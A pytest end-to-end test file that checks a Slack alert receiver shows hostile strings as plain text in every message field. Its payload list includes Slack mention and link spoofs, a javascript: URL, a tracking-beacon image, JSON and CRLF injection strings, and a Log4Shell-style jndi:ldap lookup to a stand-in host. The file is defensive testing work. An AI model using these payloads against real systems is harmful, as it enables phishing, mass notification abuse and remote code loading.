"""Text of others in every field of every kind of message: it arrives in Slack as the letters it is, and does nothing."""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import replace

import pytest

from alerts import receivers
from alerts.alert import Alert, Hit, Kind, Message, Reason, Sibling, Standing, Target
from alerts.render.words import plain
from tests.e2e.slackapi import SlackApi
from tests.e2e.slackview import live, texts
from tests.unit.hostile import ALL
from tests.unit.test_slack import SLACK, alert_of, delivery

OURS = "https://outlet.example/en/1"
STRINGS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!channel|channel>",
    "<!subteam^S0123ABCD>",
    "<!subteam^S0123ABCD|@duty>",
    "<!date^1392734382^{date} at {time}^https://evil.example/|now>",
    "<@U0123ABCD>",
    "<@W0123ABCD|boss>",
    "<#C0123ABCD>",
    "<#C0123ABCD|general>",
    "<https://evil.example/>",
    "<https://evil.example/|Reuters: read the statement>",
    "<mailto:duty@evil.example|write us>",
    "<tel:+9647000000|call>",
    "<slack://open?team=T1|open>",
    "<javascript:alert(1)|x>",
    "https://evil.example/login",
    "evil.example/login",
    "[statement](https://evil.example/)",
    "![x](https://evil.example/beacon.png)",
    "@channel attack",
    "@here @everyone",
    "*bold* _it_ ~gone~ `code`",
    "```\n<!channel>\n```",
    "> quoted\n>>> all below",
    ":rotating_light: :fire:",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "\u003c!channel\u003e",
    "<\u200b!channel>",
    "<!chan\u00adnel>",
    "＜!channel＞",
    "\u202e>lennahc!<",
    "<!channel>" * 40,
    'x","type":"mrkdwn","text":"<!channel>',
    '"}]},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
    "{{7*7}} ${jndi:ldap://evil.example/a} {0.__class__} %(x)s",
    "\r\nX-Slack-Retry: 1\r\n\r\n<!channel>",
    "<<!channel>>",
    "<!channel",
    "صاروخ <!channel> على قاعدة",
    "موشک <https://evil.example/|خبر> بر پایگاه",
]


EVERY = [*STRINGS, *ALL]


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SlackApi]:
    with SlackApi(tmp_path_factory.mktemp("slack"), limits={}) as made, pytest.MonkeyPatch.context() as patch:
        for name, value in made.env().items():
            patch.setenv(name, value)
        yield made


@pytest.fixture
def target(api: SlackApi) -> Target:
    api.messages.clear()
    return receivers.parse("watch", api.url)


def everywhere(evil: str) -> Alert:
    """Give an alert with a string in each field that others, or the rules, fill."""
    told = alert_of("en")
    cause = replace(
        told.causes[0],
        title=evil,
        pir=evil,
        contact=evil,
        rule=evil,
        hits=(Hit(evil, evil, "body", 0, len(evil), evil),),
    )
    article = replace(
        told.article, title=evil, text=f"{evil} {evil}", outlet=evil, lang=evil, author=evil, summary=evil
    )
    return replace(
        told,
        article=article,
        causes=(cause,),
        outlets=(evil, f"{evil}2"),
        changes=(evil,),
        standing=Standing((evil,), "B"),
        siblings=(Sibling("s1", evil, evil),),
        glosses=(evil,),
    )


def messages(evil: str) -> list[Message]:
    told = everywhere(evil)
    notice = {"title": evil, "body": f"{evil}\n{evil}"}
    return [
        SLACK.alert(delivery(id="d1", notes=(evil,)), told, "UTC"),
        SLACK.alert(delivery(Kind.UPDATE, Reason.UPDATED, id="d2"), told, "UTC"),
        SLACK.digest(delivery(Kind.DIGEST, Reason.STALE, id="d3", notes=(evil,)), [told, told], "UTC"),
        SLACK.notice(delivery(Kind.NOTICE, Reason.SYSTEM, id="d4", payload=notice)),
        Message(evil, evil, key="d5"),  # as a service without blocks would be sent it
    ]


@pytest.mark.parametrize("evil", EVERY, ids=range(len(EVERY)))
def test_string_is_shown_and_does_nothing(api: SlackApi, target: Target, evil: str) -> None:
    for each in messages(evil):
        assert receivers.send(target, each).ok
    edit = SLACK.alert(delivery(Kind.EDIT, Reason.TOLD), everywhere(evil), "UTC")
    handle = f"{api.messages[0].channel}:{api.messages[0].ts}"
    assert receivers.send(target, replace(edit, edits=handle)).ok
    assert len(api.messages) == 5
    assert api.messages[0].edits == 1
    assert [each for each in api.live() if each.what != OURS] == []


def test_double_sees_what_is_live(api: SlackApi) -> None:
    """The test above can fail: the same strings, sent as others send them, are seen."""
    api.messages.clear()
    for evil in STRINGS:
        api.post(evil)
    assert {"!channel", "@U0123ABCD", "#C0123ABCD", "https://evil.example/login"} <= {each.what for each in api.live()}
    marked = [{"type": "section", "text": {"type": "mrkdwn", "text": "<!here>"}}]
    rich = [{"type": "rich_text", "elements": [{"type": "rich_text_section", "elements": [{"type": "broadcast"}]}]}]
    assert [len(live("", blocks, literal=True)) for blocks in (marked, rich)] == [1, 1]


@pytest.mark.parametrize("evil", EVERY, ids=range(len(EVERY)))
def test_headline_arrives_letter_by_letter(api: SlackApi, target: Target, evil: str) -> None:
    (alert, *_) = messages(evil)
    receivers.send(target, alert)
    (posted,) = api.messages
    shown = " ".join(texts(posted.blocks))
    assert plain(evil)[:100].rstrip() in shown
    assert html.unescape(posted.text) == alert.title
